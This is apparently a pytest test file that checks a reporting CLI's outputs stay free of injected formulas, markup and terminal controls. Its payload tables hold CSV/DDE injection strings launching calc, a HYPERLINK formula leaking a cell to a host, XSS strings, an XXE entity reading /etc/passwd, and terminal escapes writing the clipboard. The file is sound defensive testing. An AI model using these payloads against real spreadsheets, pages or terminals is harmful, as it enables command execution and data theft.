"""Text from files, settings and prose is harmless in every output: no formula, no markup, no control.

One office whose every text is hostile: the names of its sheets and files, headings, wordings, numbers, units,
topics, its settings, a waiver's reason, its prose. Every command writes every format once; then each output is
parsed as its reader parses it, and held against the same office with harmless text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
import zipfile
from collections import Counter
from pathlib import Path
from typing import NamedTuple
from xml.sax.saxutils import quoteattr

import pytest
from lxml import etree, html
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from reportcli.export.csv import FORMULA_STARTS
from reportcli.words.messages import printable
from tests.containers import relations, xlsx
from tests.program.hostile.books import BOOK, BOOK_LINKS, book, named, sheet
from tests.program.hostile.case import STYLES, rows
from tests.program.hostile.run import kept_child, run
from tests.program.hostile.test_files import STEERING

PAYLOADS = {
    # OWASP, CSV injection, and its disguises
    "equals": "=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE in Chinese": "=cmd|' /C calc'!'台账'",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "a quote before": "'=1+1",
    "a double quote before": '"=1+1',
    "a blank before": " =1+1",
    "HYPERLINK": '=HYPERLINK("http://127.0.0.1:9/?a="&A1,"台账")',
    "WEBSERVICE": '=WEBSERVICE("http://127.0.0.1:9/")',
    "a new cell": '",=1+1,"',
    "a new line": "a\n=1+1",
    "a new row": "a\r\n=1+1,b",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1)",
    "BOM before": "\ufeff=1+1",
    "no width before": "\u200b=1+1",
    # markup
    "script": "<script>alert(1)</script>",
    "picture": '<img src="http://127.0.0.1:9/" onerror=alert(1)>',
    "out of an attribute": "\"' onmouseover=alert(1) x='",
    "out of a text": "</td></tr></table><iframe src=//127.0.0.1:9>",
    "out of a comment": "--><svg/onload=alert(1)>",
    "out of CDATA": "]]><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "entities": "&lt;script&gt;&#60;b&#62;&amp;&bogus;",
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "Word": '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://127.0.0.1:9/"</w:instrText>',
    # Markdown
    "link": "[台账](javascript:alert(1))",
    "image": "![a](http://127.0.0.1:9/)",
    "automatic link": "<http://127.0.0.1:9/>",
    "table": "a | b | c",
    "heading": "# 标题",
    "emphasis": "**a** _b_ `c` ~~d~~",
    "reference": "[a]: http://127.0.0.1:9/",
    "fence": "```html",
    # placeholders of wordings
    "braces": "{year} {0} {value!r} {{x}} %s %(a)s",
    # marks that steer a reader's eye
    "direction": "\u202e2024-1\u202c",
    "isolate": "\u2066=1\u2069",
    "arabic mark": "\u061ca",
    "separators": "a\u2028b\u2029c\x85d",
    "no width": "予\u200b以\u2060公\ufeff开",
    "private": "\ue000\U000f0000",
    "no character": "\ufdd0\U0001ffff",
    "combining": "a" + "\u0301" * 50,
    # long
    "long": "=" + "很长" * 500,
}  # fmt: skip
# What XML has no way to hold, and so no workbook in it: in a text file.
CONTROLS = {
    "colour": "\x1b[31m红\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;a\x07",
    "clipboard": "\x1b]52;c;aGk=\x07",
    "link of a terminal": "\x1b]8;;http://127.0.0.1:9/\x1b\\a\x1b]8;;\x1b\\",
    "one byte CSI": "\x9b31m",
    "backspace": "a\x08\x08b",
    "bell": "\x07",
    "delete": "a\x7fb",
    "unit": "a\x1fb",
}
HEADINGS = ["登记编号", "收到日期", "申请人类型", "申请方式", "答复日期", "办理结果", "承办科室"]
PUBLICATIONS = ["标题", "信息类别", "公开日期", "栏目", "公开渠道"]
CASE_HEADINGS = ["案件类型", "案号", "受理日期", "审理结果", "审结日期"]


class Office(NamedTuple):
    """A folder, and what every command wrote and said there."""

    folder: Path
    said: dict[str, str]


def texts(kind: str) -> dict[str, str]:
    """The hostile texts, or as many harmless ones."""
    if kind == "hostile":
        return dict(PAYLOADS)
    # Without its invisible signs that one is an outcome, and rightly read as one.
    return {name: f"无害{n}" for n, name in enumerate(PAYLOADS)} | {"no width": "予以公开"}


def workbook(found: dict[str, str]) -> bytes:
    """A log with a sheet for each text: it names the sheet, a heading, and cells that are said again."""
    parts: dict[str, bytes] = {"xl/styles.xml": STYLES}
    links, listed = [], ""
    for number, text in enumerate(found.values(), start=1):
        said = [
            [*HEADINGS, text],
            [f"{number}-1", "2024-01-05", "自然人", text, "2024-01-20", "予以公开", text, text],
            [f"{number}-{text}", "2024-02-05", "自然人", "网上", "2024-02-20", text, text, ""],
            [f"{number}-3", text, text, "网上", text, "予以公开", "", ""],
        ]
        parts[f"xl/worksheets/sheet{number}.xml"] = sheet(rows(said))
        links.append(f"worksheet worksheets/sheet{number}.xml")
        listed += named(quoteattr(text)[1:-1].replace('"', "&quot;"), number, f"rId{number}")
    parts |= {BOOK: book(listed), BOOK_LINKS: relations(*links, "styles styles.xml")}
    return xlsx("", parts)


def table(head: list[str], records: list[list[str]]) -> str:
    """Delimited text, quoted as it has to be."""
    out = io.StringIO()
    csv.writer(out).writerows([head, *records])
    return out.getvalue()


def settings(found: dict[str, str]) -> str:
    """Settings whose every text is hostile; TOML takes what JSON takes."""
    say = [json.dumps(text, ensure_ascii=False).replace("\x7f", "") for text in found.values()]
    fields = ("agency", "address", "postcode", "telephone", "email", "website")
    lines = [f"{name} = {text}" for name, text in zip(fields, say[21:], strict=False)]
    lines += ["[columns.requests]", *(f'{text} = ""' for text in say)]
    for number in (1, 2, 3):
        lines += [
            "[[waive]]", 'code = "number-doubled"', f'number = "{number}-1"', f"reason = {say[number]}",
            "date = 2025-01-02",
        ]  # fmt: skip
    return "\n".join(lines)


COMMANDS = {
    "tally": "tally {logs} --year 2024 -v",
    "tables": "tally {logs} --year 2024 -o t.json -o t.csv -o t.md -o t.txt -o t.xlsx -o t.html -o t.docx --force",
    "check": "check {logs} --year 2024 -v",
    "check.json": "check {logs} --year 2024 -f json",
    "check.jsonl": "check {logs} --year 2024 -f jsonl",
    "mark": "check log.xlsx --year 2024 --mark marked.xlsx --force",
    "mark csv": "check control.csv --year 2024 --mark marked-csv.xlsx --force",
    "inspect": "inspect {logs} --write-settings new.toml --force",
    "inspect.json": "inspect {logs} -f json",
    "explain": "explain {logs} --year 2024 --cell requests/received/total -v",
    "explain row": "explain control.csv --year 2024 --row 3 --no-mask",
    "deadlines": "deadlines {logs} --all --why --as-of 2025-01-12 -v",
    "calendar": "deadlines {logs} --all --as-of 2025-01-12 -o d.ics -o d.csv -o d.json --force",
    "report": "report {logs} --year 2024 --text text --annex -o r.json -o r.md -o r.html -o r.docx --force",
    "bare report": "report {logs} --year 2024 -o b.md -o b.html -o b.docx --force",
}  # fmt: skip
LOGS = ("log.xlsx", "publications.csv", "cases.csv", "control.csv")


def build(folder: Path, kind: str) -> Office:
    """An office, and all that is said and written there."""
    found = texts(kind)
    controls = (
        CONTROLS if kind == "hostile" else {name: f"控{n}" for n, name in enumerate(CONTROLS)}
    )
    (folder / "log.xlsx").write_bytes(workbook(found))
    records = [
        [t, "行政规范性文件", "2024-02-03", t, t] for t in (*found.values(), *controls.values())
    ]
    (folder / "publications.csv").write_text(table(PUBLICATIONS, records), "utf-8")
    records = [
        ["行政复议", t, "2024-02-05", t, "2024-03-05"]
        for t in (*found.values(), *controls.values())
    ]
    (folder / "cases.csv").write_text(table(CASE_HEADINGS, records), "utf-8")
    records = [
        [f"c{n}{t}", "2024-01-05", "自然人", t, "2024-01-20", t, t]
        for n, t in enumerate(controls.values())
    ]
    head = [*HEADINGS[:-1], HEADINGS[-1]]
    (folder / "control.csv").write_text(table([*head, *controls.values()], records), "utf-8")
    (folder / "reportcli.toml").write_text(settings(found), "utf-8")
    (folder / "text").mkdir()
    prose = "\n\n".join([*found.values(), *controls.values()])
    (folder / "text" / "五.md").write_text(prose.replace("{{", "{ {"), "utf-8")
    said = {}
    with pytest.MonkeyPatch.context() as patch, kept_child():
        patch.chdir(folder)
        for name, line in COMMANDS.items():
            words = [
                word for part in line.split() for word in (LOGS if part == "{logs}" else (part,))
            ]
            files = [str(folder / word) if word in LOGS else word for word in words]
            done = run(*files)
            assert done.exit_code in (0, 1), (name, done.exit_code, done.stderr)
            said[name] = done.stdout
            said[f"{name}, aside"] = done.stderr
    return Office(folder, said)


@pytest.fixture(scope="module")
def offices(tmp_path_factory: pytest.TempPathFactory) -> tuple[Office, Office]:
    """The hostile office, and the harmless one."""
    return (
        build(tmp_path_factory.mktemp("hostile"), "hostile"),
        build(tmp_path_factory.mktemp("harmless"), "harmless"),
    )


@pytest.fixture(scope="module")
def office(offices: tuple[Office, Office]) -> Office:
    return offices[0]


# --- the terminal ---


@pytest.mark.parametrize("name", [n for name in COMMANDS for n in (name, f"{name}, aside")])
def test_a_terminal_is_not_steered(office: Office, name: str) -> None:
    text = office.said[name]
    if name.endswith((".json", ".jsonl")):
        for line in text.splitlines() if name.endswith("jsonl") else [text]:
            json.loads(line)
        text = re.sub(r"\s", " ", text)
        assert not re.search("[\x00-\x1f]", text)
        return
    assert not STEERING.search(text.replace("\t", "x") if "explain row" in name else text)


def test_every_line_that_is_said_begins_as_our_lines_do(offices: tuple[Office, Office]) -> None:
    """A text of several lines does not make a line of its own."""
    form = re.compile(r"(error|warning|waived) {1,2}|  |\d+ ")
    hostile, harmless = (one.said["check"].splitlines() for one in offices)
    assert [line for line in harmless if not form.match(line)] == []
    assert [line for line in hostile if not form.match(line)] == []


# --- files of text ---


@pytest.mark.parametrize("name", ["t.csv", "d.csv"])
def test_no_cell_of_delimited_text_computes(office: Office, name: str) -> None:
    rows = list(csv.reader(io.StringIO((office.folder / name).read_text("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1
    cells = [cell for row in rows for cell in row]
    assert len(cells) > 100
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+(\.\d+)?", cell)
        assert not re.match(r"[\s\ufeff\u200b]+[=+@＝＋＠]", cell)


@pytest.mark.parametrize("name", ["t.md", "r.md", "b.md"])
def test_markdown_has_no_markup_but_ours(offices: tuple[Office, Office], name: str) -> None:
    def tokens(office: Office) -> Counter[str]:
        text = (office.folder / name).read_text("utf-8")
        assert not STEERING.search(text)
        found: Counter[str] = Counter()
        for token in MarkdownIt("commonmark").enable("table").parse(text):
            found.update([token.type, *(child.type for child in token.children or ())])
        return found

    hostile, harmless = map(tokens, offices)
    assert (
        not {"html_block", "html_inline", "link_open", "image", "fence", "code_block"}
        & hostile.keys()
    )
    if name != "r.md":  # prose may have headings and emphasis of its own
        assert {kind: hostile[kind] for kind in ("heading_open", "table_open")} == {
            kind: harmless[kind] for kind in ("heading_open", "table_open")
        }
        assert set(hostile) <= set(harmless) | {"softbreak"}


@pytest.mark.parametrize("name", ["t.json", "d.json", "r.json"])
def test_json_has_the_texts_as_they_are_and_nothing_breaks_out(office: Office, name: str) -> None:
    raw = (office.folder / name).read_bytes()
    data = json.loads(raw)
    assert data["format"].startswith("reportcli-")
    assert not re.search(b"[\x00-\x09\x0b-\x1f]", raw)


def test_settings_that_were_proposed_decide_nothing(office: Office) -> None:
    data = tomllib.loads((office.folder / "new.toml").read_text("utf-8"))
    assert set(data) <= {"columns", "values"}
    assert {word for table in data["values"].values() for word in table.values()} <= {""}


def test_a_calendar_has_no_entry_but_ours(offices: tuple[Office, Office]) -> None:
    import icalendar

    def parts(office: Office) -> Counter[str]:
        calendar = icalendar.Calendar.from_ical((office.folder / "d.ics").read_bytes())
        names: Counter[str] = Counter()
        for part in calendar.walk():
            names.update([part.name, *part.keys()])
            for key, value in part.items():
                assert not STEERING.search(str(value).replace("\n", "")), key
        return names

    hostile, harmless = map(parts, offices)
    assert hostile == harmless


# --- pages and documents ---


@pytest.mark.parametrize("name", ["t.html", "r.html", "b.html"])
def test_a_page_has_no_element_but_ours(offices: tuple[Office, Office], name: str) -> None:
    def shapes(office: Office) -> set[tuple[str, str]]:
        text = (office.folder / name).read_text("utf-8")
        assert not STEERING.search(text)
        found = set()
        for element in html.document_fromstring(text).iter():
            tag = element.tag if isinstance(element.tag, str) else "comment"
            found |= {(tag, ""), *((tag, str(key)) for key in element.attrib)}
            for key in ("href", "src", "action", "xlink:href"):
                assert not element.get(key) or element.get(key).startswith("#")
        return found

    hostile, harmless = map(shapes, offices)
    prose = {
        (tag, "") for tag in ("strong", "em", "h1", "h2", "h3", "h4", "ul", "ol", "li", "br", "p")
    }
    assert hostile <= harmless | (prose if name == "r.html" else set())
    assert not {key for _, key in hostile if key.startswith("on")}
    assert not {"script", "iframe", "img", "object", "svg:script", "link"} & {
        tag for tag, _ in hostile
    }


@pytest.mark.parametrize("name", ["t.docx", "r.docx", "b.docx"])
def test_a_document_has_no_element_but_ours(offices: tuple[Office, Office], name: str) -> None:
    def shapes(office: Office) -> set[str]:
        found = set()
        with zipfile.ZipFile(office.folder / name) as archive:
            assert archive.testzip() is None
            for part in archive.namelist():
                if not part.endswith((".xml", ".rels")):
                    continue
                content = archive.read(part)
                assert b"<!" not in content.replace(b"<!--", b"")
                root = etree.fromstring(content)
                assert not STEERING.search("".join(root.itertext()).replace("\t", ""))
                for element in root.iter():
                    if isinstance(element.tag, str):
                        found.add(element.tag)
                        assert element.get("TargetMode") != "External"
        return found

    hostile, harmless = map(shapes, offices)
    lists = {
        tag
        for tag in hostile - harmless
        if re.search(r"\}(numPr|ilvl|numId|b|bCs|i|iCs|br|rStyle)$", tag)
    }
    assert hostile - lists <= harmless


@pytest.mark.parametrize("name", ["t.xlsx", "marked.xlsx", "marked-csv.xlsx"])
def test_a_workbook_computes_nothing_and_knows_nobody(office: Office, name: str) -> None:
    path = office.folder / name
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for part in archive.namelist():
            if part.endswith((".xml", ".rels", ".vml")):
                content = archive.read(part)
                root = etree.fromstring(content)
                assert b'TargetMode="External"' not in content
                assert not [
                    e for e in root.iter() if isinstance(e.tag, str) and e.tag.endswith("}f")
                ]


def test_what_begins_a_formula_stays_text_when_a_person_edits_it(office: Office) -> None:
    cells = [
        cell
        for one in load_workbook(office.folder / "t.xlsx")
        for row in one.iter_rows()
        for cell in row
    ]
    starting = [
        cell
        for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]
    assert len(starting) > 10
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in starting)


@pytest.mark.parametrize(
    "text", [*PAYLOADS.values(), *CONTROLS.values()], ids=[*PAYLOADS, *CONTROLS]
)
def test_the_escaper_leaves_nothing_that_steers(text: str) -> None:
    assert not STEERING.search(printable(text).replace("\t", ""))
    assert "\n" not in printable(text)
